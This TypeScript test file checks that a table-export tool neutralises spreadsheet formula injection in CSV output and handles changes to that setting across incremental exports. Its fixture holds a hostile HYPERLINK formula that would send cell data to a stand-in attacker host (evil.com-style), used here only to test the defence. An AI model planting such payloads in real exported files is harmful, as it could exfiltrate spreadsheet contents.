/**
 * Formula injection: values that a spreadsheet would run (`=HYPERLINK(...)`, `+`, `-`, `@`, tab, CR first) are
 * neutralised in exported files by default, and written raw with `NeutralizeFormulas: false`; incremental exports
 * keep working, and a change of the setting (or a cookie or heartbeat of an earlier release, whose files hold raw
 * values) makes the next export start over completely. The exportTable activity against the simulator over HTTP,
 * files read back with a strict RFC 4180 reader.
 */
import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, test } from 'node:test';
import type { ExportHeartbeat, IdentityTable } from '../../../src/contract/export';
import type { ExportCookie } from '../../../src/export/cookies';
import { DEFAULT_EXPORT_FIELDS } from '../../../src/export/fields';
import { tempDir } from '../../helpers/files';
import { ManualClock, useSimulator } from '../../helpers/simulator';
import {
  assertSameRows,
  CONNECTION,
  exportTableRunner,
  exportTestSettings,
  readCsv,
  storeRows,
  ok,
} from '../../helpers/export';

const FIELDS = DEFAULT_EXPORT_FIELDS.sys_user;

const HOSTILE = {
  user_name: 'formula.user',
  first_name: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  last_name: '+1 555 0100',
  title: '-2+3',
  department: '@SUM(1,2)',
  employee_number: '\t42',
};
const CARRIAGE_RETURN = { user_name: 'cr.user', first_name: '\r=1+1', last_name: 'a=b', title: "'quoted" };

describe('formula injection in exported cells (simulator over HTTP, strict CSV reader)', () => {
  const clock = new ManualClock('2024-05-01T10:00:00Z');
  const fixture = useSimulator({ now: clock.now });
  const dataDir = tempDir('snow-export-formulas-');
  const ids = { hostile: '', carriageReturn: '' };

  function runner(name: string, exports: Record<string, unknown> = {}) {
    const run = exportTableRunner(
      exportTestSettings(fixture.sim, dataDir, {
        OutputDirectory: `out-${name}`,
        CookieDirectory: `cookies-${name}`,
        ...exports,
      }),
      clock.now,
    );
    const [input] = run.plan({ tables: ['sys_user'] }).tables;
    assert.ok(input !== undefined);
    return { ...run, input };
  }

  function cookiePath(name: string, table: IdentityTable): string {
    return path.join(dataDir, `cookies-${name}`, `${CONNECTION}_${table}.json`);
  }

  function rowOf(file: string, sysId: string): Record<string, string> {
    const row = readCsv(file).rows.find((candidate) => candidate.sys_id === sysId);
    assert.ok(row !== undefined, `${sysId} is in ${file}`);
    return row;
  }

  function pick(row: Record<string, string>, values: Record<string, string>): Record<string, string> {
    return Object.fromEntries(Object.keys(values).map((field) => [field, row[field] ?? '']));
  }

  test('setup: users whose values start like formulas, and enough others for several pages', async () => {
    fixture.sim.instance.seedDirectory({ users: 120, groups: 2, membershipsPerUser: 1, roles: 1 });
    ids.hostile = (await fixture.create('sys_user', HOSTILE)).sys_id ?? '';
    ids.carriageReturn = (await fixture.create('sys_user', CARRIAGE_RETURN)).sys_id ?? '';
  });

  test('by default, cells that start like a formula get a leading single quote; others are written as read', async () => {
    const { run, input } = runner('default');
    assert.equal(input.neutralizeFormulas, true, 'the plan carries the default');
    const result = ok(await run(input));
    assert.deepEqual(pick(rowOf(result.file, ids.hostile), HOSTILE), {
      user_name: HOSTILE.user_name,
      first_name: `'${HOSTILE.first_name}`,
      last_name: `'${HOSTILE.last_name}`,
      title: `'${HOSTILE.title}`,
      department: `'${HOSTILE.department}`,
      employee_number: `'${HOSTILE.employee_number}`,
    });
    assert.deepEqual(pick(rowOf(result.file, ids.carriageReturn), CARRIAGE_RETURN), {
      ...CARRIAGE_RETURN,
      first_name: `'${CARRIAGE_RETURN.first_name}`,
    });
    assertSameRows(readCsv(result.file), storeRows(fixture.sim, 'sys_user'), FIELDS);
  });

  test('NeutralizeFormulas false writes every value exactly as read', async () => {
    const { run, input } = runner('raw', { NeutralizeFormulas: false });
    const result = ok(await run(input));
    assert.deepEqual(pick(rowOf(result.file, ids.hostile), HOSTILE), HOSTILE);
    assert.deepEqual(pick(rowOf(result.file, ids.carriageReturn), CARRIAGE_RETURN), CARRIAGE_RETURN);
    assertSameRows(readCsv(result.file), storeRows(fixture.sim, 'sys_user'), FIELDS, { raw: true });
  });

  test('incremental exports still skip the overlap; changing the setting makes the next one complete', async () => {
    const neutral = runner('switch');
    const first = ok(await neutral.run(neutral.input));
    assert.equal(first.mode, 'complete');
    const cookie = JSON.parse(readFileSync(cookiePath('switch', 'sys_user'), 'utf8')) as ExportCookie;
    assert.equal(cookie.neutralizeFormulas, true);

    clock.advance(60);
    const patched = await fixture.call(`/api/now/table/sys_user/${ids.hostile}`, {
      method: 'PATCH',
      body: { title: '=1+2' },
    });
    assert.equal(patched.status, 200);
    // A read leaves rows changed in its own first second to the next run.
    clock.advance(60);
    const second = ok(await neutral.run(neutral.input));
    assert.equal(second.mode, 'incremental', 'the same setting: incremental as before');
    assert.deepEqual(
      readCsv(second.file).rows.map((row) => [row.sys_id, row.title]),
      [[ids.hostile, "'=1+2"]],
    );
    assert.ok(second.skippedAsDuplicates > 0, 'rows met again in the overlap are skipped as before');

    const raw = runner('switch', { NeutralizeFormulas: false });
    const switched = await raw.run(raw.input);
    assert.equal(ok(switched).mode, 'complete');
    assert.ok(
      switched.logs.some((line) =>
        /completely instead of incrementally.*NeutralizeFormulas changed/.test(line),
      ),
      switched.logs.join(' | '),
    );
    assertSameRows(readCsv(ok(switched).file), storeRows(fixture.sim, 'sys_user'), FIELDS, { raw: true });
    assert.equal(ok(await raw.run(raw.input)).mode, 'incremental');
  });

  test('a cookie of an earlier release (raw values, no NeutralizeFormulas) makes the next export complete', async () => {
    const { run, input } = runner('old-cookie');
    ok(await run(input));
    const file = cookiePath('old-cookie', 'sys_user');
    const { neutralizeFormulas, ...earlier } = JSON.parse(readFileSync(file, 'utf8')) as ExportCookie;
    assert.equal(neutralizeFormulas, true);
    writeFileSync(file, JSON.stringify(earlier));
    const next = await run(input);
    assert.equal(ok(next).mode, 'complete');
    assert.ok(
      next.logs.some((line) => /NeutralizeFormulas changed/.test(line)),
      next.logs.join(' | '),
    );
    assertSameRows(readCsv(ok(next).file), storeRows(fixture.sim, 'sys_user'), FIELDS);
  });

  test('a heartbeat of an earlier release (a file of raw values) is not resumed; the table starts over', async () => {
    const { run, input } = runner('resume', { Complete: true });
    let recorded: ExportHeartbeat | undefined;
    const failed = await run(input, {
      onHeartbeat: (beat) => {
        if (beat.cursor === null || recorded !== undefined) return;
        recorded = beat;
        fixture.sim.instance.faults.update({ errorRate: 1 });
      },
    });
    fixture.sim.instance.faults.update({ errorRate: 0 });
    assert.ok(failed.error !== undefined && recorded !== undefined, 'the first attempt failed after a page');
    assert.equal(recorded.resume.neutralizeFormulas, true, 'heartbeats say how cells were written');
    // As an earlier release recorded it: the same heartbeat without the field (JSON drops undefined).
    const earlier = JSON.parse(
      JSON.stringify({ ...recorded, resume: { ...recorded.resume, neutralizeFormulas: undefined } }),
    ) as ExportHeartbeat;
    const retried = await run(input, { previous: earlier });
    assert.ok(
      retried.logs.some((line) => /Starting the table over.*NeutralizeFormulas changed/.test(line)),
      retried.logs.join(' | '),
    );
    assertSameRows(readCsv(ok(retried).file), storeRows(fixture.sim, 'sys_user'), FIELDS);
  });
});
